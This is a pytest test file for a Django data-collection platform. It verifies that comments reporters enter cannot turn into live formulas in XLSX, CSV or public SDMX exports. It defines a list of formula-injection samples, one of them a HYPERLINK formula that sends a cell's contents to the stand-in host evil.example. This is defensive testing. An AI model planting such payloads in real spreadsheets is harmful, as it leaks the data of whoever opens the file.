"""Formula injection: a reporter's comment never becomes a live formula in any file the
platform writes, and an untouched file read back restores the comment exactly."""

import csv
import io
import zipfile

import openpyxl
import pytest
from django.test import Client

from planwatch.catalog.models import Department, Indicator
from planwatch.collection.batches import import_file, store_rows
from planwatch.collection.cell_text import csv_text, restore
from planwatch.collection.models import DataValue, Submission
from planwatch.collection.sources import typed_rows
from planwatch.collection.xlsx_template import build_template
from planwatch.exchange.models import PublishedIndicator
from planwatch.monitoring.formats import values_export

pytestmark = pytest.mark.django_db
TOWNSHIPS = ["220112001", "220112002", "220112003", "220112004", "220112102", "220112104",
             "220112105", "220112203"]  # fmt: skip
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "'=already quoted",
    "普通说明",
]


def store_comments(comments):
    """Comments entered as typed (the entry form's and the API's path)."""
    rows = [
        {"indicator": "W1-10", "org_unit": TOWNSHIPS[i], "year": "2024",
         "value": f"9{i}", "comment": comment}
        for i, comment in enumerate(comments)
    ]  # fmt: skip
    result = store_rows(typed_rows(enumerate(rows, 2)), user=None, channel="web")
    assert result.stored, result.problems


@pytest.mark.parametrize("text", [*HOSTILE, "\t=2+2", "\r=3", "", "a=b"])
def test_csv_text_and_restore_are_inverse(text):
    assert restore(csv_text(text)) == text
    assert not csv_text(text).startswith(("=", "+", "-", "@", "\t", "\r"))


def formula_cells(data: bytes) -> list:
    """Every cell stored as a formula (t="f" or an <f> element) in any sheet of the file."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        return [n for n in sheets if b"<f>" in archive.read(n) or b't="f"' in archive.read(n)]


def test_xlsx_exports_and_csv_keep_hostile_comments_as_text(rounds, write_csv, tmp_path):
    store_comments(HOSTILE)
    stored = set(DataValue.objects.values_list("comment", flat=True))
    assert stored == set(HOSTILE)  # stored exactly as typed
    data = values_export(DataValue.objects.all(), "xlsx")
    assert formula_cells(data) == []
    sheet = openpyxl.load_workbook(io.BytesIO(data), data_only=True).active
    assert {row[9] for row in sheet.iter_rows(min_row=2, values_only=True)} == set(HOSTILE)
    text = values_export(DataValue.objects.all(), "csv").decode()
    cells = [row[9] for row in csv.reader(io.StringIO(text))][1:]
    assert all(not c.startswith(("=", "+", "-", "@")) for c in cells)
    # The untouched CSV export re-imports to the very same comments, changing nothing.
    again = tmp_path / "again.csv"
    again.write_text(text, encoding="utf-8")
    result, _batch = import_file(again)
    assert result.stored and result.n_changed == 0 and result.n_unchanged == len(HOSTILE)
    assert set(DataValue.objects.values_list("comment", flat=True)) == set(HOSTILE)


def test_an_untouched_template_restores_the_comments(rounds, write_csv, tmp_path):
    store_comments(HOSTILE[:5])
    health = Department.objects.get(code="health")
    data = build_template(2024, department=health)
    assert formula_cells(data) == []
    path = tmp_path / "untouched.xlsx"
    path.write_bytes(data)
    result, _batch = import_file(path)
    assert result.ok, result.problems
    assert result.n_changed == 0  # nothing wiped
    assert set(DataValue.objects.values_list("comment", flat=True)) == set(HOSTILE[:5])


def test_public_sdmx_has_no_comments_unless_the_plan_office_publishes_them(
    rounds, write_csv, clients
):
    path = write_csv(["C1-02,220112,2024,,,,2.5,,,=1+1 内部说明"])
    assert import_file(path)[0].stored
    Submission.objects.update(status="approved")
    published = PublishedIndicator.objects.create(
        indicator=Indicator.objects.get(code="C1-02"), from_year=2020, to_year=2024
    )
    text = Client().get("/public/sdmx.csv").content.decode()
    assert "2.5" in text and "内部说明" not in text
    published.comments_public = True
    published.save()
    text = Client().get("/public/sdmx.csv").content.decode()
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1][-1] == "'=1+1 内部说明"  # public, and neutralised
    # The publication page sets the flag and audits it.
    clients["office"].post(
        "/publication/", {"pub-C1-02": "on", "from-C1-02": "2020", "to-C1-02": "2024"}
    )
    published.refresh_from_db()
    assert published.comments_public is False
